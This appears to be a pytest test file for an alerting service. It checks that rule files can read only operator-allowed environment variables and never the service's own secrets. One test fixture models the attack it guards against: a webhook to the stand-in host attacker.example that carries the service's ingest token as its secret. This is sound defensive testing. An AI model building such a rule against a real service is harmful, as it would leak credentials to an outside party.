"""``${VAR}`` in rule files (a webhook's secret) reads only the variables the operator allows: those named
ALERTS_RULES_VAR_*, and those listed in ALERTS_RULES_ALLOWED_VARS, never another ALERTS_* one (a trader
could have the ingest token sign alerts sent to a URL of theirs, and guess it offline). A refused variable
is a rule error naming the file, line, webhook and variable; its value is never read, let alone shown."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from alerts.errors import ConfigError
from alerts.rules.load import load_rules
from alerts.settings import (
    RULES_VAR_PREFIX,
    known_variables,
    load_settings,
    rule_var_allowed,
    rules_allowed_vars,
    unknown_variables,
)

VALUE = "tok-3f9a2b1c-the-value-itself"


def hook_file(tmp_path: Path, var: str) -> Path:
    path = tmp_path / "hooks.yaml"
    path.write_text(f"""webhooks:
  - name: hook
    url: https://attacker.example/collect
    secret: ${{{var}}}
rules:
  - id: r1
    news: {{any: [export licen*]}}
    notify: [webhook:hook]
""", "utf-8")
    return path


def refused(path: Path, var: str) -> list[str]:
    return [f"{path}:4: -: webhooks: hook: ${{{var}}} is not allowed in rule files: name it ALERTS_RULES_VAR_... "
            "or list it in ALERTS_RULES_ALLOWED_VARS",
            f"{path}:8: r1: notify: webhook 'hook' is not defined under webhooks:"]


@pytest.fixture(autouse=True)
def _no_allowed_list(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.delenv("ALERTS_RULES_ALLOWED_VARS", raising=False)
    monkeypatch.chdir(tmp_path)  # no .env of the working directory


def test_a_service_secret_is_refused_and_its_value_never_shown(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ALERTS_INGEST_TOKEN", VALUE)
    path = hook_file(tmp_path, "ALERTS_INGEST_TOKEN")
    rs = load_rules(path)
    assert [str(p) for p in rs.problems] == refused(path, "ALERTS_INGEST_TOKEN")
    assert rs.webhooks == {} and rs.by_id == {}
    assert VALUE not in repr(rs) and VALUE not in repr(rs.problems)


@pytest.mark.parametrize("var", sorted(known_variables()))
def test_no_setting_can_be_read_even_when_listed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, var: str) -> None:
    monkeypatch.setenv(var, VALUE)
    path = hook_file(tmp_path, var)
    for allowed in ((), (var,)):
        rs = load_rules(path, allowed_vars=allowed)
        assert [str(p) for p in rs.problems] == refused(path, var)
    lower = var.lower()  # settings are read ignoring case: alerts_ingest_token sets ALERTS_INGEST_TOKEN
    assert [str(p) for p in load_rules(hook_file(tmp_path, lower), allowed_vars=(lower,)).problems] == refused(
        path, lower)


def test_another_variable_is_refused_unless_listed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RISK_HOOK_SECRET", VALUE)
    monkeypatch.setenv("HOME_TOKEN", "other")
    path = hook_file(tmp_path, "RISK_HOOK_SECRET")
    assert [str(p) for p in load_rules(path).problems] == refused(path, "RISK_HOOK_SECRET")
    assert [str(p) for p in load_rules(path, allowed_vars=("HOME_TOKEN",)).problems] == refused(
        path, "RISK_HOOK_SECRET")
    rs = load_rules(path, allowed_vars=("HOME_TOKEN", "RISK_HOOK_SECRET"))
    assert rs.problems == [] and rs.webhooks["hook"].secret.get_secret_value() == VALUE


def test_the_allowed_list_is_read_from_the_setting(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RISK_HOOK_SECRET", VALUE)
    path = hook_file(tmp_path, "RISK_HOOK_SECRET")
    monkeypatch.setenv("ALERTS_RULES_ALLOWED_VARS", "DESK_TOKEN, RISK_HOOK_SECRET")
    rs = load_rules(path)
    assert rs.problems == [] and rs.webhooks["hook"].secret.get_secret_value() == VALUE
    monkeypatch.setenv("ALERTS_RULES_ALLOWED_VARS", '["RISK_HOOK_SECRET"]')
    assert load_rules(path).problems == []
    monkeypatch.delenv("ALERTS_RULES_ALLOWED_VARS")
    (tmp_path / ".env").write_text("ALERTS_RULES_ALLOWED_VARS=RISK_HOOK_SECRET\n", "utf-8")  # as every setting
    assert load_rules(path).problems == []
    (tmp_path / ".env").write_text("ALERTS_RULES_ALLOWED_VARS=ALERTS_INGEST_TOKEN,RISK_HOOK_SECRET\n", "utf-8")
    assert [str(p) for p in load_rules(path).problems] == refused(path, "RISK_HOOK_SECRET")  # invalid: none


def test_the_prefix_is_always_allowed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    var = RULES_VAR_PREFIX + "RISK_HOOK"
    path = hook_file(tmp_path, var)
    monkeypatch.delenv(var, raising=False)
    assert [str(p) for p in load_rules(path).problems] == [
        f"{path}:4: -: webhooks: hook: environment variable {var} is not set",
        f"{path}:8: r1: notify: webhook 'hook' is not defined under webhooks:"]
    monkeypatch.setenv(var, VALUE)
    rs = load_rules(path)
    assert rs.problems == [] and rs.webhooks["hook"].secret.get_secret_value() == VALUE
    assert VALUE not in repr(rs.webhooks)


def test_the_setting_refuses_service_variables_and_bad_names(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ALERTS_RULES_ALLOWED_VARS", "RISK_HOOK,ALERTS_RULES_VAR_X")
    assert load_settings(env_file=None).rules_allowed_vars == ["RISK_HOOK", "ALERTS_RULES_VAR_X"]
    assert rules_allowed_vars(env_file=None) == ["RISK_HOOK", "ALERTS_RULES_VAR_X"]
    for value, says in [
        ("RISK_HOOK,ALERTS_INGEST_TOKEN", "ALERTS_INGEST_TOKEN is a variable of the service's settings (ALERTS_*): "
         "rule files may not read it; give the rules their own, named ALERTS_RULES_VAR_..."),
        ("alerts_smtp_password", "alerts_smtp_password is a variable of the service's settings"),
        ("RISK HOOK", "'RISK HOOK' is not an environment variable name"),
        ("[RISK_HOOK", "not a list of environment variable names"),
    ]:
        monkeypatch.setenv("ALERTS_RULES_ALLOWED_VARS", value)
        for read in (lambda: load_settings(env_file=None), lambda: rules_allowed_vars(env_file=None)):
            with pytest.raises(ConfigError) as caught:
                read()
            assert str(caught.value).startswith("ALERTS_RULES_ALLOWED_VARS"), str(caught.value)
            assert says in str(caught.value)


def test_the_rules_own_variables_are_not_warned_about_as_unknown_settings() -> None:
    assert unknown_variables(["ALERTS_RULES_VAR_RISK_HOOK", "ALERTS_RULES_ALLOWED_VARS"]) == []
    assert unknown_variables(["ALERTS_RULES_ALLOWED_VAR"]) == [
        "ALERTS_RULES_ALLOWED_VAR is not a setting, ignored; did you mean ALERTS_RULES_ALLOWED_VARS?"]


names = st.from_regex(r"[A-Za-z_][A-Za-z0-9_]{0,30}", fullmatch=True)


@given(name=names, others=st.lists(names, max_size=5))
def test_for_any_name_only_the_prefix_or_a_listed_non_service_name_is_allowed(name: str, others: list[str]) -> None:
    service = name.upper().startswith("ALERTS_") and not name.startswith(RULES_VAR_PREFIX)
    assert rule_var_allowed(name, [*others, name]) is (not service)
    assert rule_var_allowed(name, others) is (name.startswith(RULES_VAR_PREFIX) or (not service and name in others))
    assert rule_var_allowed(RULES_VAR_PREFIX + name, others)
